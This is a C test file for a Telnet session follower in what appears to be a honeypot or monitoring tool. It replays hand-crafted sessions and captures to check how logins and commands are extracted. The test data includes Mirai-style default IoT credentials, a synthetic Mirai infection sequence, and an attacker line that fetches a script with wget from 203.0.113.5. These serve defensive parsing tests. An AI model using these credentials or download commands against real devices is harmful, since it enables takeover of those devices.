/* SPDX-License-Identifier: MIT */
/* Telnet session follower: hand-written byte strings and two captures replayed direction by
 * direction in capture order. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "check.h"
#include "mamori/proto.h"

#define MAX_EV 128

struct ev {
	enum mamori_telnet_event_kind kind;
	enum mamori_telnet_result result;
	char user[MAMORI_TELNET_FIELD_MAX + 1];
	char pass[MAMORI_TELNET_FIELD_MAX + 1];
	char line[MAMORI_TELNET_LINE_MAX + 1];
	size_t line_len;
};

struct evlog {
	struct ev ev[MAX_EV];
	size_t n;
	size_t dropped;
};

static void
record(void *arg, const struct mamori_telnet_event *e)
{
	struct evlog *l = arg;
	struct ev *x;

	if (l->n == MAX_EV) {
		l->dropped++;
		return;
	}
	x = &l->ev[l->n++];
	memset(x, 0, sizeof(*x));
	x->kind = e->kind;
	x->result = e->result;
	if (e->user != NULL)
		snprintf(x->user, sizeof(x->user), "%s", e->user);
	if (e->pass != NULL)
		snprintf(x->pass, sizeof(x->pass), "%s", e->pass);
	if (e->kind == MAMORI_TELNET_EV_COMMAND && e->line != NULL) {
		CHECK(e->line_len <= MAMORI_TELNET_LINE_MAX);
		CHECK(e->line[e->line_len] == '\0');
		memcpy(x->line, e->line, e->line_len + 1);
		x->line_len = e->line_len;
	}
}

static bool
is_login(const struct ev *e, const char *user, const char *pass, enum mamori_telnet_result r)
{
	return e->kind == MAMORI_TELNET_EV_LOGIN && strcmp(e->user, user) == 0 &&
	       strcmp(e->pass, pass) == 0 && e->result == r;
}

static bool
is_cmd(const struct ev *e, const char *line)
{
	return e->kind == MAMORI_TELNET_EV_COMMAND && strcmp(e->line, line) == 0 &&
	       e->line_len == strlen(line);
}

static bool
all_zero(const void *p, size_t n)
{
	const uint8_t *b = p;

	for (size_t i = 0; i < n; i++)
		if (b[i] != 0)
			return false;
	return true;
}

/* Shorthands: S() is the server speaking, C() the client, each one chunk. */
#define S(t, s) mamori_telnet_feed((t), false, (const uint8_t *)(s), sizeof(s) - 1)
#define C(t, s) mamori_telnet_feed((t), true, (const uint8_t *)(s), sizeof(s) - 1)

/* The client sends s one byte at a time; with echo, the server echoes each byte back. */
static void
type(struct mamori_telnet *t, const char *s, bool echo)
{
	for (; *s; s++) {
		mamori_telnet_feed(t, true, (const uint8_t *)s, 1);
		if (echo)
			mamori_telnet_feed(t, false, (const uint8_t *)s, 1);
	}
}

static void
typing_with_echo(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	S(&t, "\xff\xfb\x01\xff\xfb\x03\r\nUbuntu 9.04\r\nlogin: ");
	type(&t, "guest\r\n", true);
	S(&t, "Password: ");
	type(&t, "s3cret\r\n", false);
	CHECK(l.n == 0);
	S(&t, "\r\n");
	CHECK(l.n == 0);
	S(&t, "guest@host:~$ ");
	CHECK(l.n == 1 && is_login(&l.ev[0], "guest", "s3cret", MAMORI_TELNET_SUCCESS));
	CHECK(all_zero(t.pass, sizeof(t.pass)));
	type(&t, "ls -l\r\n", true);
	S(&t, "total 0\r\nguest@host:~$ ");
	type(&t, "exit\r\n", true);
	mamori_telnet_end(&t);
	CHECK(l.n == 3);
	CHECK(is_cmd(&l.ev[1], "ls -l"));
	CHECK(is_cmd(&l.ev[2], "exit"));
	CHECK(all_zero(t.line, sizeof(t.line)));
}

static void
cr_nul_endings(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	S(&t, "login: ");
	C(&t, "root\r");
	C(&t, "\0");
	S(&t, "Password: ");
	C(&t, "toor\r\0");
	S(&t, "\r\nBusyBox v1.22.1 (2014-05-22) built-in shell (ash)\r\n# ");
	C(&t, "cat /proc/cpuinfo\r\0uname\n");
	mamori_telnet_end(&t);
	CHECK(l.n == 3);
	CHECK(is_login(&l.ev[0], "root", "toor", MAMORI_TELNET_SUCCESS));
	CHECK(is_cmd(&l.ev[1], "cat /proc/cpuinfo"));
	CHECK(is_cmd(&l.ev[2], "uname"));
}

static void
iac_inside_lines(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	/* the server splits its prompt with negotiation and a NOP */
	S(&t, "lo\xff\xfd\x01gi\xff\xf1n:\xff\xfa\x18\x01\xff\xf0 ");
	/* the client interleaves WILL NAWS, an SB with an escaped 0xff, and an IAC GA */
	C(&t, "ro\xff\xfb\x1fo\xff\xfa\x1f\x00\x50\xff\xff\x18\xff\xf0t\xff\xf9\r\n");
	S(&t, "Pass\xff\xfb\x01word:");
	/* IAC EC erases one character, IAC EL the whole line typed so far */
	C(&t, "junk\xff\xf8"
	      "adminx\xff\xf7\r\n");
	S(&t, "\r\nLogin incorrect\r\n");
	CHECK(l.n == 1 && is_login(&l.ev[0], "root", "admin", MAMORI_TELNET_FAILED));
	mamori_telnet_end(&t);
	CHECK(l.n == 1);
}

static void
sb_without_se(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};
	uint8_t buf[MAMORI_TELNET_SB_MAX + 16];

	mamori_telnet_init(&t, record, &l);
	S(&t, "login: ");
	/* the client opens an SB and never closes it: after the cap, bytes are data again */
	buf[0] = 0xff;
	buf[1] = 0xfa;
	memset(buf + 2, 'A', MAMORI_TELNET_SB_MAX);
	mamori_telnet_feed(&t, true, buf, MAMORI_TELNET_SB_MAX + 2);
	C(&t, "root\r\n");
	/* the server does the same inside its password prompt */
	memset(buf + 2, 'x', MAMORI_TELNET_SB_MAX);
	mamori_telnet_feed(&t, false, buf, MAMORI_TELNET_SB_MAX + 2);
	S(&t, "Password: ");
	C(&t, "12345\r\n");
	S(&t, "\r\nAccess denied\r\n");
	CHECK(l.n == 1 && is_login(&l.ev[0], "root", "12345", MAMORI_TELNET_FAILED));

	/* one byte short of the cap: still inside the SB, the line is swallowed */
	mamori_telnet_init(&t, record, &l);
	l.n = 0;
	S(&t, "login: ");
	memset(buf + 2, 'A', MAMORI_TELNET_SB_MAX - 1);
	mamori_telnet_feed(&t, true, buf, MAMORI_TELNET_SB_MAX + 1);
	C(&t, "x\r\nroot\r\n");
	S(&t, "Password: ");
	C(&t, "pw\r\n");
	S(&t, "$ ");
	CHECK(l.n == 1 && is_login(&l.ev[0], "root", "pw", MAMORI_TELNET_SUCCESS));
	mamori_telnet_end(&t);
}

static void
split_prompt_and_verdict(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	S(&t, "\r\nDVR log");
	S(&t, "in");
	S(&t, ": ");
	C(&t, "root\r\n");
	S(&t, "Pass");
	S(&t, "word: ");
	C(&t, "xc3511\r\n");
	S(&t, "\r\nLogin inc");
	CHECK(l.n == 0);
	S(&t, "orrect\r\n\r\nDVR log");
	CHECK(l.n == 1 && is_login(&l.ev[0], "root", "xc3511", MAMORI_TELNET_FAILED));
	S(&t, "in: ");
	C(&t, "admin\r\n");
	S(&t, "Passwd:");
	C(&t, "admin\r\n");
	S(&t, "\r\n");
	S(&t, "#");
	CHECK(l.n == 2 && is_login(&l.ev[1], "admin", "admin", MAMORI_TELNET_SUCCESS));
	mamori_telnet_end(&t);
	CHECK(l.n == 2);
}

static void
iac_iac_is_data(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	S(&t, "Username: ");
	C(&t, "ab\xff\xff"
	      "c\r\n");
	S(&t, "Password: ");
	C(&t, "\xff\xff\xff\xff\r\n");
	S(&t, "\r\n% Bad passwords\r\n");
	CHECK(l.n == 1 && is_login(&l.ev[0],
	                      "ab\xff"
	                      "c",
	                      "\xff\xff", MAMORI_TELNET_FAILED));
	mamori_telnet_end(&t);
}

static void
backspace_and_del(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	S(&t, "login: ");
	C(&t, "roox\x08t\r\n");
	S(&t, "password:");
	C(&t, "\x7f"
	      "admx\x7fin\r\n");
	S(&t, "\r\nWelcome to the router\r\n");
	CHECK(l.n == 1 && is_login(&l.ev[0], "root", "admin", MAMORI_TELNET_SUCCESS));
	mamori_telnet_end(&t);
}

/* hydra and friends send the user name and password without waiting for the prompts */
static void
no_prompt_order(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	C(&t, "root\r\n888888\r\n");
	S(&t, "login: ");
	S(&t, "Password: ");
	CHECK(l.n == 0); /* the server is only catching up with the lines sent */
	S(&t, "\r\nLogin incorrect\r\n\r\nlogin: ");
	CHECK(l.n == 1 && is_login(&l.ev[0], "root", "888888", MAMORI_TELNET_FAILED));
	C(&t, "admin\r\nadmin\r\n");
	S(&t, "Password: ");
	S(&t, "\r\n~ # ");
	CHECK(l.n == 2 && is_login(&l.ev[1], "admin", "admin", MAMORI_TELNET_SUCCESS));
	C(&t, "wget http://203.0.113.5/x.sh\r\n");
	mamori_telnet_end(&t);
	CHECK(l.n == 3 && is_cmd(&l.ev[2], "wget http://203.0.113.5/x.sh"));
}

static void
password_only_device(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	S(&t, "\r\nPassword: ");
	C(&t, "1234\r\n");
	S(&t, "\r\nPassword: ");
	CHECK(l.n == 1 && is_login(&l.ev[0], "", "1234", MAMORI_TELNET_FAILED));
	C(&t, "\r\n"); /* an empty password is a password */
	S(&t, "\r\nrouter> ");
	CHECK(l.n == 2 && is_login(&l.ev[1], "", "", MAMORI_TELNET_SUCCESS));
	mamori_telnet_end(&t);
}

static void
command_answered_means_success(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	S(&t, "login: ");
	C(&t, "support\r\n");
	S(&t, "Password: ");
	C(&t, "support\r\n");
	S(&t, "\r\n");
	C(&t, "uname -a\r\n");
	S(&t, "uname -a\r\n"); /* the echo alone is no answer */
	CHECK(l.n == 0);
	S(&t, "Linux dvr 3.0.8 armv7l\r\n");
	CHECK(l.n == 2);
	CHECK(is_login(&l.ev[0], "support", "support", MAMORI_TELNET_SUCCESS));
	CHECK(is_cmd(&l.ev[1], "uname -a"));
	mamori_telnet_end(&t);
	CHECK(l.n == 2);
}

static void
typed_ahead_after_failure(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	S(&t, "login: ");
	C(&t, "root\r\n");
	S(&t, "Password: ");
	C(&t, "root\r\n");
	C(&t, "admin\r\n"); /* typed before the verdict */
	S(&t, "\r\nLogin incorrect\r\nlogin: ");
	CHECK(l.n == 1 && is_login(&l.ev[0], "root", "root", MAMORI_TELNET_FAILED));
	S(&t, "Password: ");
	C(&t, "password\r\n");
	S(&t, "\r\nLogin incorrect\r\nlogin: ");
	CHECK(l.n == 2 && is_login(&l.ev[1], "admin", "password", MAMORI_TELNET_FAILED));
	mamori_telnet_end(&t);
	CHECK(l.n == 2);
}

static void
end_reports_once(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	S(&t, "login: ");
	C(&t, "root\r\n");
	S(&t, "Password: ");
	C(&t, "hunter2\r\n");
	/* only negotiation comes back: the old "Password:" text must not count again */
	S(&t, "\xff\xfc\x01");
	S(&t, " ");
	CHECK(l.n == 0);
	mamori_telnet_end(&t);
	CHECK(l.n == 1 && is_login(&l.ev[0], "root", "hunter2", MAMORI_TELNET_UNKNOWN));
	CHECK(all_zero(t.pass, sizeof(t.pass)));
	mamori_telnet_end(&t);
	C(&t, "more\r\n");
	S(&t, "# ");
	CHECK(l.n == 1);

	/* the verdict the last server text implies, at the end */
	mamori_telnet_init(&t, record, &l);
	l.n = 0;
	S(&t, "login: ");
	C(&t, "root\r\n");
	S(&t, "Password: ");
	C(&t, "x\r\n");
	S(&t, "\r\nlogin: ");
	mamori_telnet_end(&t);
	CHECK(l.n == 1 && is_login(&l.ev[0], "root", "x", MAMORI_TELNET_FAILED));

	/* a user name alone is not an attempt */
	mamori_telnet_init(&t, record, &l);
	l.n = 0;
	S(&t, "login: ");
	C(&t, "root\r\n");
	mamori_telnet_end(&t);
	CHECK(l.n == 0);
}

static void
attempts_capped(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	S(&t, "login: ");
	for (int i = 0; i < MAMORI_TELNET_MAX_ATTEMPTS + 10; i++) {
		C(&t, "root\r\n");
		S(&t, "Password: ");
		C(&t, "guess\r\n");
		S(&t, "\r\nLogin incorrect\r\nlogin: ");
	}
	mamori_telnet_end(&t);
	CHECK(l.n == MAMORI_TELNET_MAX_ATTEMPTS);
	CHECK(l.dropped == 0);
	for (size_t i = 0; i < l.n; i++)
		CHECK(is_login(&l.ev[i], "root", "guess", MAMORI_TELNET_FAILED));
}

static void
secrets_in_shell_not_commands(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};

	mamori_telnet_init(&t, record, &l);
	S(&t, "login: ");
	C(&t, "user\r\n");
	S(&t, "Password:");
	C(&t, "pw\r\n");
	S(&t, "\r\nLast login: Mon Jan  1 00:00:00 from 10.0.0.1\r\n$ ");
	C(&t, "su\r\n");
	S(&t, "Password: ");
	C(&t, "rootpw\r\n");
	S(&t, "\r\n# ");
	C(&t, "id\r\n");
	mamori_telnet_end(&t);
	CHECK(l.n == 3);
	CHECK(is_login(&l.ev[0], "user", "pw", MAMORI_TELNET_SUCCESS));
	CHECK(is_cmd(&l.ev[1], "su"));
	CHECK(is_cmd(&l.ev[2], "id"));
}

static void
long_fields_cut(void)
{
	struct mamori_telnet t;
	struct evlog l = {0};
	char big[600];

	mamori_telnet_init(&t, record, &l);
	memset(big, 'u', sizeof(big));
	S(&t, "login: ");
	mamori_telnet_feed(&t, true, (const uint8_t *)big, sizeof(big));
	C(&t, "\r\n");
	S(&t, "Password: ");
	C(&t, "p\r\n");
	S(&t, "# ");
	mamori_telnet_feed(&t, true, (const uint8_t *)big, sizeof(big));
	C(&t, "\n");
	mamori_telnet_end(&t);
	CHECK(l.n == 2);
	CHECK(strlen(l.ev[0].user) == MAMORI_TELNET_FIELD_MAX);
	CHECK(l.ev[1].line_len == MAMORI_TELNET_LINE_MAX);
}

/* ---- captures ------------------------------------------------------------------------ */

static uint8_t *
load(const char *rel, size_t *len)
{
	char path[512];
	FILE *f;
	uint8_t *b;
	long sz;

	snprintf(path, sizeof(path), "%s/%s", check_shared_data(), rel);
	f = fopen(path, "rb");
	if (f == NULL) {
		fprintf(stderr, "cannot open %s\n", path);
		return NULL;
	}
	if (fseek(f, 0, SEEK_END) != 0 || (sz = ftell(f)) < 0 || fseek(f, 0, SEEK_SET) != 0) {
		fclose(f);
		return NULL;
	}
	b = malloc((size_t)sz + 1);
	if (b != NULL && fread(b, 1, (size_t)sz, f) != (size_t)sz) {
		free(b);
		b = NULL;
	}
	fclose(f);
	*len = (size_t)sz;
	return b;
}

static uint32_t
le32(const uint8_t *p)
{
	return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}

static uint32_t
be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

struct seg {
	uint32_t src, dst, seq;
	uint16_t sport, dport;
	const uint8_t *p;
	size_t len;
};

/* The next IPv4/TCP segment of a classic pcap (linktype 1); false at the end. */
static bool
next_tcp(const uint8_t *f, size_t flen, size_t *off, struct seg *s)
{
	while (*off + 16 <= flen) {
		const uint8_t *rec = f + *off + 16;
		size_t caplen = le32(f + *off + 8), ihl, thl, tot;

		if (caplen > flen - *off - 16)
			return false;
		*off += 16 + caplen;
		if (caplen < 14 + 20 || rec[12] != 0x08 || rec[13] != 0x00)
			continue;
		rec += 14;
		caplen -= 14;
		ihl = (size_t)(rec[0] & 0x0f) * 4;
		tot = (size_t)rec[2] << 8 | rec[3];
		if (rec[9] != 6 || ihl < 20 || caplen < ihl + 20 || tot < ihl + 20)
			continue;
		thl = (size_t)(rec[ihl + 12] >> 4) * 4;
		if (thl < 20 || tot < ihl + thl || caplen < ihl + thl)
			continue;
		s->src = be32(rec + 12);
		s->dst = be32(rec + 16);
		s->sport = (uint16_t)(rec[ihl] << 8 | rec[ihl + 1]);
		s->dport = (uint16_t)(rec[ihl + 2] << 8 | rec[ihl + 3]);
		s->seq = be32(rec + ihl + 4);
		s->p = rec + ihl + thl;
		s->len = tot - ihl - thl;
		if (s->len > caplen - ihl - thl)
			s->len = caplen - ihl - thl;
		return true;
	}
	return false;
}

#define MAX_SESS 8

struct sess {
	uint32_t cli;
	uint16_t cport;
	uint32_t next[2]; /* next expected sequence number per direction */
	bool have_next[2];
	struct mamori_telnet t;
	struct evlog log;
};

/* Replays every port-23 session of a capture; returns the number of sessions. */
static size_t
replay(const char *rel, struct sess *ss)
{
	size_t flen, off = 24, n = 0;
	uint8_t *f = load(rel, &flen);
	struct seg s;

	CHECK(f != NULL);
	if (f == NULL)
		return 0;
	CHECK(flen >= 24 && le32(f) == 0xa1b2c3d4 && le32(f + 20) == 1);
	while (next_tcp(f, flen, &off, &s)) {
		bool from_client = s.dport == 23;
		uint32_t cli = from_client ? s.src : s.dst;
		uint16_t cport = from_client ? s.sport : s.dport;
		struct sess *x = NULL;
		int dir = from_client ? 0 : 1;

		if (s.dport != 23 && s.sport != 23)
			continue;
		for (size_t i = 0; i < n; i++)
			if (ss[i].cli == cli && ss[i].cport == cport)
				x = &ss[i];
		if (x == NULL) {
			CHECK(n < MAX_SESS);
			if (n == MAX_SESS)
				break;
			x = &ss[n++];
			memset(x, 0, sizeof(*x));
			x->cli = cli;
			x->cport = cport;
			mamori_telnet_init(&x->t, record, &x->log);
		}
		if (s.len == 0)
			continue;
		/* segments arrive in order in these files; drop retransmissions all the same */
		if (x->have_next[dir] && (int32_t)(s.seq - x->next[dir]) < 0)
			continue;
		x->next[dir] = s.seq + (uint32_t)s.len;
		x->have_next[dir] = true;
		mamori_telnet_feed(&x->t, from_client, s.p, s.len);
	}
	for (size_t i = 0; i < n; i++)
		mamori_telnet_end(&ss[i].t);
	free(f);
	return n;
}

static struct sess sessions[MAX_SESS];

static void
capture_mirai_synthetic(void)
{
	size_t n = replay("pcap/synthetic/mirai_infection_synthetic.pcap", sessions);
	size_t victim = 0, logins = 0;
	const uint32_t bot_ip = 192u << 24 | 0u << 16 | 2u << 8 | 66u;
	struct sess *s3 = NULL;

	for (size_t i = 0; i < n; i++) {
		struct sess *x = &sessions[i];

		CHECK(x->log.dropped == 0);
		logins += x->log.n;
		if (x->cli != bot_ip || x->log.n == 0)
			continue;
		victim++;
		if (x->cport == 41000)
			CHECK(x->log.n == 1 &&
			      is_login(&x->log.ev[0], "root", "xc3511", MAMORI_TELNET_FAILED));
		else if (x->cport == 41001)
			CHECK(x->log.n == 1 &&
			      is_login(&x->log.ev[0], "admin", "admin", MAMORI_TELNET_FAILED));
		else if (x->cport == 41002)
			s3 = x;
		else
			CHECK(x->cport >= 41000 &&
			      x->cport <= 41002); /* no other session has events */
	}
	CHECK(victim == 3);
	CHECK(s3 != NULL);
	if (s3 != NULL) {
		CHECK(s3->log.n == 6);
		CHECK(is_login(&s3->log.ev[0], "root", "vizxv", MAMORI_TELNET_SUCCESS));
		CHECK(is_cmd(&s3->log.ev[1], "enable"));
		CHECK(is_cmd(&s3->log.ev[2], "system"));
		CHECK(is_cmd(&s3->log.ev[3], "shell"));
		CHECK(is_cmd(&s3->log.ev[4], "sh"));
		CHECK(is_cmd(&s3->log.ev[5], "/bin/busybox MIRAI"));
	}
	/* the C&C session to 203.0.113.5:23 (binary, no lines) yields nothing */
	CHECK(logins == 8);
}

static void
capture_openbsd_human(void)
{
	/* One human login to OpenBSD 2.6: user "fake", password "user" (no echo), the server
	 * answers "Last login: ..." and "$ "; then ping (interrupted with IAC IP), ls, ls -a,
	 * exit. */
	size_t n = replay("pcap/benign/telnet_openbsd_login.pcap", sessions);
	struct evlog *l = &sessions[0].log;

	CHECK(n == 1);
	if (n != 1)
		return;
	CHECK(l->n == 5);
	CHECK(is_login(&l->ev[0], "fake", "user", MAMORI_TELNET_SUCCESS));
	CHECK(is_cmd(&l->ev[1], "/sbin/ping www.yahoo.com"));
	CHECK(is_cmd(&l->ev[2], "ls"));
	CHECK(is_cmd(&l->ev[3], "ls -a"));
	CHECK(is_cmd(&l->ev[4], "exit"));
}

int
main(void)
{
	static const struct check_case cases[] = {
	    CHECK_CASE(typing_with_echo),
	    CHECK_CASE(cr_nul_endings),
	    CHECK_CASE(iac_inside_lines),
	    CHECK_CASE(sb_without_se),
	    CHECK_CASE(split_prompt_and_verdict),
	    CHECK_CASE(iac_iac_is_data),
	    CHECK_CASE(backspace_and_del),
	    CHECK_CASE(no_prompt_order),
	    CHECK_CASE(password_only_device),
	    CHECK_CASE(command_answered_means_success),
	    CHECK_CASE(typed_ahead_after_failure),
	    CHECK_CASE(end_reports_once),
	    CHECK_CASE(attempts_capped),
	    CHECK_CASE(secrets_in_shell_not_commands),
	    CHECK_CASE(long_fields_cut),
	    CHECK_CASE(capture_mirai_synthetic),
	    CHECK_CASE(capture_openbsd_human),
	};

	return check_run("test_telnet", cases, sizeof(cases) / sizeof(cases[0]));
}
